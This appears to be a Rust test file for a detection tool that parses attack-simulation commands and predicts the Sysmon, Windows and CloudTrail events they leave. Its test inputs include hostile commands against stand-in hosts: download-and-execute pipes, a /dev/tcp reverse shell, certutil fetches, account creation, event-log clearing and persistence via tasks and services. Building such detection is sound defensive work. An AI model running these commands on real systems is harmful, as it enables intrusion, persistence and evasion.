//! What commands are read as, and the events that they leave behind.

use super::derive::{Draft, Host, Platform, derive};
use super::shell::{Script, cmd, powershell, unix};
use super::tables::UnixSystem;
use proptest::prelude::*;
use tripline_attack::atomic::{AtomicTest, Executor};

fn run(executor: &str, command: &str, platform: Platform) -> Host {
    let test = AtomicTest {
        executor: Executor {
            name: executor.into(),
            command: command.into(),
            ..Executor::default()
        },
        ..AtomicTest::default()
    };
    derive(&test, command, platform)
}

/// `EVENT FIELD=VALUE` of each event after the executor's own, with the one field that matters.
fn events(host: &Host) -> Vec<String> {
    const SHOWN: [&str; 11] = [
        "process.command_line",
        "file.path",
        "registry.path",
        "destination.domain",
        "destination.ip",
        "dns.question.name",
        "dll.path",
        "task.name",
        "windows_service.name",
        "event.user.target",
        "cloud.api.action",
    ];
    let skip = usize::from(
        host.drafts
            .first()
            .is_some_and(|d| d.why.starts_with("the executor")),
    );
    let show = |draft: &Draft| {
        let found = SHOWN.iter().find_map(|name| draft.fields.get(name));
        format!("{} {}", draft.key, found.map_or("", String::as_str))
            .trim_end()
            .to_owned()
    };
    host.drafts.iter().skip(skip).map(show).collect()
}

fn on_cmd(command: &str) -> Vec<String> {
    events(&run("command_prompt", command, Platform::Windows))
}

fn on_powershell(command: &str) -> Vec<String> {
    let all = events(&run("powershell", command, Platform::Windows));
    all.into_iter()
        .filter(|event| !event.starts_with("PowerShell/4104"))
        .collect()
}

fn on_linux(command: &str) -> Vec<String> {
    events(&run("bash", command, Platform::Linux))
}

#[test]
fn macos_has_its_own_folders() {
    let command = "cp a.plist ~/Library/LaunchAgents/a.plist; echo x >> /etc/emond.d/rules/x";
    assert_eq!(
        events(&run("bash", command, Platform::Macos)),
        [
            "EndpointSecurity/NOTIFY_EXEC cp a.plist /Users/user/Library/LaunchAgents/a.plist",
            "EndpointSecurity/NOTIFY_CREATE /Users/user/Library/LaunchAgents/a.plist",
            "EndpointSecurity/NOTIFY_CREATE /private/etc/emond.d/rules/x",
        ]
    );
}

#[test]
fn where_a_program_lies_is_known() {
    let command = "which_ssl=`which openssl`\n$which_ssl version\n$(command -v curl) --help\n$(which nosuch) -x";
    let host = run("sh", command, Platform::Linux);
    let started = |at: usize| host.drafts[at].fields["process.command_line"].as_str();
    assert_eq!(
        [started(1), started(2), started(3)],
        [
            "which openssl",
            "/usr/bin/openssl version",
            "/usr/bin/curl --help"
        ]
    );
    assert_eq!(host.unknown.len(), 1);
}

#[test]
fn the_executor_is_the_first_process_and_the_parent_of_the_next() {
    let host = run("command_prompt", "whoami /all\nhostname", Platform::Windows);
    let field = |at: usize, name: &str| {
        host.drafts[at]
            .fields
            .get(name)
            .cloned()
            .unwrap_or_default()
    };
    assert_eq!(
        field(0, "process.command_line"),
        "\"cmd.exe\" /c whoami /all & hostname"
    );
    assert_eq!(field(0, "process.parent.executable"), "");
    assert_eq!(
        field(1, "process.executable"),
        "C:\\Windows\\System32\\whoami.exe"
    );
    assert_eq!(field(1, "process.original_file_name"), "whoami.exe");
    assert_eq!(
        field(1, "process.parent.executable"),
        "C:\\Windows\\System32\\cmd.exe"
    );
    assert_eq!(field(1, "process.integrity_level"), "Medium");
    assert_eq!(host.drafts[1].place, (0, 11));
    assert_eq!(host.drafts[2].place, (12, 20));
}

#[test]
fn cmd_is_read_as_it_runs() {
    assert_eq!(
        on_cmd("@echo off & (whoami > %TEMP%\\out.txt 2>&1) || exit /b 1"),
        [
            "Sysmon/11 C:\\Users\\user\\AppData\\Local\\Temp\\out.txt",
            "Sysmon/1 whoami"
        ]
    );
    assert_eq!(
        on_cmd("if not exist C:\\x.txt (copy C:\\a.txt C:\\b.txt)\nset P=C:\\Tools\n%P%\\t.exe ^a"),
        ["Sysmon/11 C:\\b.txt", "Sysmon/1 C:\\Tools\\t.exe a"]
    );
    assert_eq!(
        on_cmd("rem whoami\n:: whoami\necho whoami>nul"),
        Vec::<String>::new()
    );
    assert_eq!(
        on_cmd("start \"title\" /b notepad.exe"),
        ["Sysmon/1 notepad.exe"]
    );
}

#[test]
fn functions_are_read_where_they_are_defined() {
    let found =
        on_powershell("function hostname { whoami @args; 'x' }\nhostname\npowershell .(f 1)[-1]");
    let expected = [
        "Sysmon/1 \"C:\\Windows\\System32\\whoami.exe\" @args",
        "Sysmon/1 \"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\" .",
    ];
    assert_eq!(found, expected);
    let host = run("powershell", "powershell .(f 1)[-1]", Platform::Windows);
    let blocks = host
        .drafts
        .iter()
        .filter(|draft| draft.key == "PowerShell/4104");
    assert_eq!(
        blocks.count(),
        1,
        "the text of the inner PowerShell is not known"
    );
    assert!(
        host.unknown
            .iter()
            .any(|(_, what)| what == "the text that PowerShell runs")
    );
    assert_eq!(
        on_powershell("whoami --user $($env:USERNAME)@$($env:USERDOMAIN)"),
        [
            "Sysmon/1 \"C:\\Windows\\System32\\whoami.exe\" --user $($env:USERNAME)@$($env:USERDOMAIN)"
        ]
    );
}

#[test]
fn programs_of_windows_do_what_their_arguments_say() {
    assert_eq!(
        on_cmd("reg add HKLM\\Software\\A /v \"B C\" /t REG_DWORD /d 1 /f")[1],
        "Sysmon/13 HKLM\\Software\\A\\B C"
    );
    assert_eq!(
        on_cmd("schtasks /create /tn T /tr \"cmd /c calc\" /sc daily"),
        [
            "Sysmon/1 schtasks /create /tn T /tr \"cmd /c calc\" /sc daily",
            "Security-Auditing/4698 \\T",
            "TaskScheduler/106 \\T",
            "Sysmon/11 C:\\Windows\\System32\\Tasks\\T",
            "Sysmon/12 HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Schedule\\TaskCache\\Tree\\T",
        ]
    );
    assert_eq!(
        on_cmd("certutil -urlcache -split -f http://a.test/x.exe C:\\x.exe")[1..],
        ["Sysmon/22 a.test", "Sysmon/3 a.test", "Sysmon/11 C:\\x.exe"]
    );
    assert_eq!(
        on_cmd("net user joe Pa55 /add")[1..],
        [
            "Sysmon/1 C:\\Windows\\system32\\net1 user joe Pa55 /add",
            "Security-Auditing/4720 joe"
        ]
    );
    assert_eq!(
        on_cmd("sc create S binPath= \"C:\\s.exe -k\" start= auto")[1..],
        [
            "Service-Control-Manager/7045 S",
            "Sysmon/13 HKLM\\System\\CurrentControlSet\\Services\\S\\ImagePath"
        ]
    );
    assert_eq!(on_cmd("wevtutil cl System")[1], "Eventlog/104");
    assert_eq!(on_cmd("rundll32 C:\\a.dll,Run")[1], "Sysmon/7 C:\\a.dll");
}

#[test]
fn commands_inside_commands_are_run() {
    assert_eq!(
        on_cmd("cmd /c \"whoami & hostname\"")[1..],
        ["Sysmon/1 whoami", "Sysmon/1 hostname"]
    );
    // The text is `whoami`.
    let host = run(
        "command_prompt",
        "powershell -enc dwBoAG8AYQBtAGkA",
        Platform::Windows,
    );
    let keys: Vec<&str> = host.drafts.iter().map(|draft| draft.key).collect();
    assert_eq!(
        keys,
        ["Sysmon/1", "Sysmon/1", "PowerShell/4104", "Sysmon/1"]
    );
    assert_eq!(host.drafts[2].fields["powershell.script_block"], "whoami");
    assert_eq!(
        host.drafts[3].fields["process.parent.executable"],
        "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
    );
    assert_eq!(host.drafts[3].place, (0, 32));
}

#[test]
fn powershell_is_read_as_it_runs() {
    assert_eq!(
        on_powershell("$u = 'http://a.test/x'\nIEX (New-Object Net.WebClient).DownloadString($u)"),
        ["Sysmon/22 a.test", "Sysmon/3 a.test"]
    );
    assert_eq!(
        on_powershell("Set-ItemProperty HKCU:\\Software\\A -Name B -Value \"C:\\x.exe\" # no more"),
        ["Sysmon/13 HKU\\S-1-5-21-1111111111-2222222222-3333333333-1001\\Software\\A\\B"]
    );
    assert_eq!(
        on_powershell(
            "if (Test-Path C:\\x) { Copy-Item C:\\a.exe -Destination \"$env:TEMP\\b.exe\" }"
        ),
        ["Sysmon/11 C:\\Users\\user\\AppData\\Local\\Temp\\b.exe"]
    );
    assert_eq!(
        on_powershell("Get-Process | Out-File $env:TEMP\\p.txt; whoami /all"),
        [
            "Sysmon/11 C:\\Users\\user\\AppData\\Local\\Temp\\p.txt",
            "Sysmon/1 \"C:\\Windows\\System32\\whoami.exe\" /all"
        ]
    );
    assert_eq!(
        on_powershell("iwr http://a.test:8080/f -OutFile C:\\f.bin -UseBasicParsing")[1..],
        ["Sysmon/3 a.test", "Sysmon/11 C:\\f.bin"]
    );
    assert_eq!(
        on_powershell("Start-Process cmd.exe -ArgumentList '/c','whoami'")[1],
        "Sysmon/1 whoami"
    );
    assert_eq!(
        on_powershell("'whoami' | iex")[0],
        "Sysmon/1 \"C:\\Windows\\System32\\whoami.exe\""
    );
}

#[test]
fn shells_of_unix_are_read_as_they_run() {
    assert_eq!(
        on_linux("U=http://a.test/x\ncurl -s $U | bash"),
        [
            "Sysmon-Linux/1 curl -s http://a.test/x",
            "Sysmon-Linux/3 a.test",
            "Sysmon-Linux/1 bash"
        ]
    );
    assert_eq!(
        on_linux("sudo sh -c 'echo x >> /etc/hosts'")[2..],
        ["Sysmon-Linux/11 /etc/hosts"]
    );
    assert_eq!(
        on_linux("if [ -f /a ]; then rm -f /a; fi; cat <<EOF > /tmp/b\nrm /c\nEOF\nid"),
        [
            "Sysmon-Linux/1 rm -f /a",
            "Sysmon-Linux/23 /a",
            "Sysmon-Linux/11 /tmp/b",
            "Sysmon-Linux/1 cat",
            "Sysmon-Linux/1 id"
        ]
    );
    assert_eq!(
        on_linux("bash -i >& /dev/tcp/192.0.2.1/443 0>&1")[0],
        "Sysmon-Linux/3 192.0.2.1"
    );
    assert_eq!(on_linux("echo `id -u`")[0], "Sysmon-Linux/1 id -u");
}

#[test]
fn calls_of_cloud_services_are_named_as_in_their_logs() {
    let host = run(
        "sh",
        "aws --profile p iam create-access-key --user-name joe",
        Platform::Cloud("iaas:aws"),
    );
    assert_eq!(events(&host), ["AWS-CloudTrail/* CreateAccessKey"]);
    assert_eq!(
        host.drafts[0].fields["cloud.api.service"],
        "iam.amazonaws.com"
    );
    assert_eq!(host.drafts[0].native["requestParameters.userName"], "joe");
}

#[test]
fn what_only_a_run_would_tell_is_named() {
    let host = run("bash", "$PROGRAM -x\ncp /a \"$(pwd)/b\"", Platform::Linux);
    let what: Vec<&str> = host.unknown.iter().map(|(_, what)| what.as_str()).collect();
    assert_eq!(
        what,
        [
            "the program `$PROGRAM`",
            "a value that only a run would tell"
        ]
    );
    assert!(
        events(&host)
            .iter()
            .all(|event| !event.starts_with("Sysmon-Linux/11"))
    );
    let host = run("powershell", "iex $text", Platform::Windows);
    assert_eq!(host.unknown[0].1, "the text that Invoke-Expression runs");
}

fn in_bounds(text: &str, script: &Script) {
    for command in &script.commands {
        let (start, end) = command.place;
        assert!(text.get(start..end).is_some(), "{start}..{end} of {text:?}");
        for word in &command.words {
            assert!(text.get(word.place.0..word.place.1).is_some());
        }
    }
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 512, ..ProptestConfig::default() })]

    #[test]
    fn any_text_is_read_with_places_inside_it(
        text in "([a-z$`\"'(){}|&;<>^%@#=+.:,/\\\\\n\\[\\] é-]|\\$\\(|<<|@'|if |for |iex |cmd /c |sh -c ){0,60}"
    ) {
        in_bounds(&text, &cmd::read(&text));
        in_bounds(&text, &powershell::read(&text));
        in_bounds(&text, &unix::read(&text, UnixSystem::of(false)));
        for (executor, platform) in [
            ("command_prompt", Platform::Windows),
            ("powershell", Platform::Windows),
            ("bash", Platform::Linux),
            ("sh", Platform::Macos),
        ] {
            for draft in run(executor, &text, platform).drafts {
                prop_assert!(text.get(draft.place.0..draft.place.1).is_some());
            }
        }
    }
}

#[test]
fn deep_and_long_texts_end() {
    for text in [
        "$(".repeat(20_000),
        "(".repeat(20_000),
        "{\"".repeat(20_000),
        "a;".repeat(40_000),
    ] {
        for executor in ["command_prompt", "powershell", "bash"] {
            let _ = run(executor, &text, Platform::Windows);
        }
    }
}
